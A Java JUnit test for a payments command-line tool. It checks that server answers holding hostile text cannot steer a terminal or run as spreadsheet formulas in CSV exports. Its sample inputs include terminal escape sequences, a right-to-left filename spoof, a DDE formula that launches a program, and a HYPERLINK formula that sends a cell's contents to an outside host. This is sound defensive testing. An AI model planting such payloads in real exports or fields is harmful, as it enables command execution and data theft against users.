package com.clientpay.connect.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.clientpay.connect.http.Json;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every command that shows what a connector answers, with each hostile text in every property at once, as a table, as JSON and
 * as a problem. Names in the books come from strangers.
 */
class HostileTextTest {
    private static final Pattern NUMBER = Pattern.compile("[+-]?[0-9]+(\\.[0-9]+)?");
    private static final List<String> TEXTS = List.of(
            "\u001b[31mred\u001b]0;title\u0007\u001b[2J\u001b[H \u009b31m\u0090q\u009c \u0000\b\b\bback\u007f \u0085next"
                    + " \u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e \ud800",
            "a\rb",
            "a\r\nb",
            "a\nb",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "\"=1+1",
            "x;=1+1;y",
            "x,=1+1,y",
            "x\t=1+1\ty",
            "x\n=1+1",
            "\uff1d1+1",
            "=HYPERLINK(\"http://example.com?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "\",=1+1,\"");

    private static final List<List<String>> COMMANDS = List.of(
            List.of("postings", "list"),
            List.of("postings", "show", "p1"),
            List.of("postings", "post", "p1"),
            List.of("postings", "remove", "p1", "--note", "x"),
            List.of("postings", "export"),
            List.of("search", "x"),
            List.of("search", "x", "--in", "matters"),
            List.of("search", "x", "--in", "trust-ledgers"),
            List.of("accounts"),
            List.of("codes"),
            List.of("fields"),
            List.of("reconcile", "--date", "2026-11-23"),
            List.of("call", "GET", "/v1/status"));

    @TempDir
    Path folder;

    private HttpServer server;
    private Path keyFile;
    private String answer;
    private int status;

    @BeforeEach
    void start() throws IOException {
        keyFile = Files.writeString(folder.resolve("key"), "cpk_test_secret\n");
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", this::answer);
        server.start();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    static List<List<String>> commands() {
        return COMMANDS;
    }

    @ParameterizedTest
    @MethodSource("commands")
    void no_text_of_an_answer_steers_a_terminal_or_runs_in_a_spreadsheet(List<String> command) {
        // A cell of an export may hold a line break, in quotes, and an answer of call is shown as it is.
        boolean isTable = !command.contains("export") && !command.contains("call");
        status = 200;
        answer = Json.text(answer("plain"));
        long lines = run(command).out().lines().count();
        for (String text : TEXTS) {
            status = 200;
            answer = Json.text(answer(text));
            Finished finished = run(command);
            assertPlain(command, text, finished);
            assertTrue(
                    !isTable || finished.out().lines().count() == lines,
                    () -> command + " has other lines with " + Json.text(text) + ":\n" + finished.out());
            if (command.contains("export")) {
                assertNoFormula(text, finished.out());
            } else {
                assertPlain(
                        command,
                        text,
                        run(Stream.concat(command.stream(), Stream.of("--json")).toList()));
            }
            status = 422;
            answer = Json.text(problem(text));
            Finished refused = run(command);
            assertEquals(1, refused.code(), command + " " + refused.err());
            assertPlain(command, text, refused);
        }
    }

    private static void assertPlain(List<String> command, String text, Finished finished) {
        for (String said : List.of(finished.out(), finished.err())) {
            String lines = command.contains("export") ? said.replace("\r\n", "\n") : said;
            lines.codePoints()
                    .forEach(c -> assertTrue(
                            c == '\n' || c == '\t' || !isHarmful(c),
                            () -> command + " lets through \\u%04x of %s".formatted(c, Json.text(text))));
        }
    }

    private static boolean isHarmful(int c) {
        return Character.isISOControl(c)
                || Character.getType(c) == Character.SURROGATE
                || (c >= 0x202A && c <= 0x202E)
                || (c >= 0x2066 && c <= 0x2069)
                || c == 0x200E
                || c == 0x200F;
    }

    /** Read with each separator that spreadsheets use, no cell begins as a formula, unless it is a number. */
    private static void assertNoFormula(String text, String csv) {
        for (char separator : new char[] {',', ';', '\t'}) {
            for (String cell : cells(csv, separator)) {
                String start = cell.strip().replace("\u00a0", "");
                assertTrue(
                        start.isEmpty()
                                || "=+-@\uff1d\uff0b\uff0d\uff20".indexOf(start.charAt(0)) < 0
                                || NUMBER.matcher(start).matches(),
                        () -> "a cell runs as a formula: " + Json.text(cell) + " of " + Json.text(text));
            }
        }
    }

    /** As a spreadsheet reads them: quotes count at the beginning of a cell only. */
    private static List<String> cells(String csv, char separator) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append(c);
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && cell.isEmpty()) {
                quoted = true;
            } else if (c == separator || c == '\n' || c == '\r') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    /** An object that any of the commands can read, as a list, as one thing and as a thing in a list. */
    private static Map<String, Object> answer(String text) {
        Map<String, Object> item = item(text);
        item.put("payer", Map.of("name", text, "email", text));
        item.put("allocations", List.of(Map.of("invoiceNumber", text, "amount", text)));
        item.put("reasons", List.of(Map.of("code", text, "detail", text)));
        item.put("history", List.of(Map.of("at", text, "by", text, "what", text, "detail", text)));
        item.put("differences", List.of(Map.of("postingId", text, "detail", text)));
        item.put("accounts", List.of(Map.of("bankAccountId", text, "ours", item(text), "books", item(text))));
        item.put("shownOn", List.of(text));
        item.put("balanced", true);
        Map<String, Object> all = new LinkedHashMap<>(item);
        all.put("items", List.of(item));
        all.put("next", null);
        return all;
    }

    private static Map<String, Object> item(String text) {
        Map<String, Object> item = new LinkedHashMap<>();
        PostingCells.SIMPLE.forEach(name -> item.put(name, text));
        for (String name : List.of(
                "name",
                "number",
                "clientName",
                "clientNumber",
                "matterNumber",
                "matterName",
                "date",
                "balance",
                "pending",
                "arBalance",
                "trustBalance",
                "code",
                "description",
                "label",
                "type",
                "postings",
                "reversals",
                "reversed")) {
            item.put(name, text);
        }
        return item;
    }

    private static Map<String, Object> problem(String text) {
        return Map.of(
                "type", "urn:clientpay:problem:" + text,
                "title", text,
                "detail", text,
                "requestId", text,
                "errors", List.of(Map.of("pointer", text, "detail", text)));
    }

    private Finished run(List<String> command) {
        return Finished.command(Stream.concat(
                        command.stream(),
                        Stream.of(
                                "--url",
                                "http://127.0.0.1:" + server.getAddress().getPort(),
                                "--key-file",
                                keyFile.toString()))
                .toArray(String[]::new));
    }

    private void answer(HttpExchange exchange) throws IOException {
        exchange.getRequestBody().readAllBytes();
        byte[] bytes = answer.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders()
                .set("Content-Type", status == 200 ? "application/json" : "application/problem+json");
        exchange.sendResponseHeaders(status, bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }
}
